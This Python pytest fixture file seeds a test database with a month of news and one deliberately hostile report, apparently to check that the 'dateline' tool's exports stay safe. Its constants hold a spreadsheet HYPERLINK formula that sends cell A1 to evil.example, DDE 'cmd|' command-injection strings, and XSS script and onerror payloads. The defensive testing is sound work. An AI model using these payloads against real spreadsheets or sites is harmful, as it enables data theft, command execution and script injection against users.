"""A month of news in a database, and one report by somebody who means harm."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine

from db.exports import Chosen, one_snapshot, read_events
from db.session import engine_for, session_scope
from tests.db.news import MARCH_5, a_month_of_news, code, told
from tests.db.stored import a_text, an_article
from worker.cli import dateline
from worker.exports.stored import StoredEvent
from worker.records import EventPlace, Party
from worker.settings import settings

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Résumé")</script><script>document.title="owned"</script>'
HOSTILE_SENTENCE = (
    "@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror=\"document.title='owned'\"> said \"no\", twice;\r\nمرحبا"
)
NOWHERE = EventPlace("Somewhere", "somewhere", None, None, None, None, None, 5)


def a_hostile_report(engine: Engine) -> None:
    """An article whose headline is a formula and a script, whose sentence is another, whose actor is a third."""
    with session_scope(engine) as session:
        article = an_article(
            session,
            outlet="+Ill Wind; <b>Daily</b>",
            published_at=MARCH_5 + timedelta(days=14),
            story_id=4,  # the teachers': hostile reports come into real stories
            state="read",
            title=HOSTILE_TITLE,
            url="https://evil.example/%22onmouseover=alert(1)",
        )
        a_text(session, article, HOSTILE_SENTENCE)
    party = Party('-2+3+cmd|" /C calc"!A0', "cmd", None, None)
    event = told(HOSTILE_SENTENCE, HOSTILE_SENTENCE, (MARCH_5 + timedelta(days=14)).date(), NOWHERE, actors=(party,))
    code(engine, article, event)


@pytest.fixture(scope="session")
def news_url(make_database: Callable[..., str], template_database: str) -> str:
    """A database that all tests of exports only read."""
    return make_database(template_database)


@pytest.fixture(scope="session")
def news(news_url: str) -> Iterator[Engine]:
    """The month with the hostile report: eight events, seven of them live."""
    engine = engine_for(news_url)
    a_month_of_news(engine)
    a_hostile_report(engine)
    yield engine
    engine.dispose()


@pytest.fixture(scope="session")
def events(news: Engine) -> list[StoredEvent]:
    """Everything that is stored, in the order of the keys."""
    with one_snapshot(news) as connection:
        return list(read_events(connection, Chosen()))


Run = Callable[..., Result]


@pytest.fixture
def run(news: Engine, news_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Run]:
    """Runs a command of ``dateline`` on the month of news; errors of our own are raised."""
    monkeypatch.setenv("DATELINE_DATABASE_URL", news_url)
    settings.cache_clear()

    def command(*words: str | Path) -> Result:
        done = CliRunner().invoke(dateline, [str(word) for word in words])
        if done.exception is not None and not isinstance(done.exception, SystemExit):
            raise done.exception
        return done

    yield command
    settings.cache_clear()
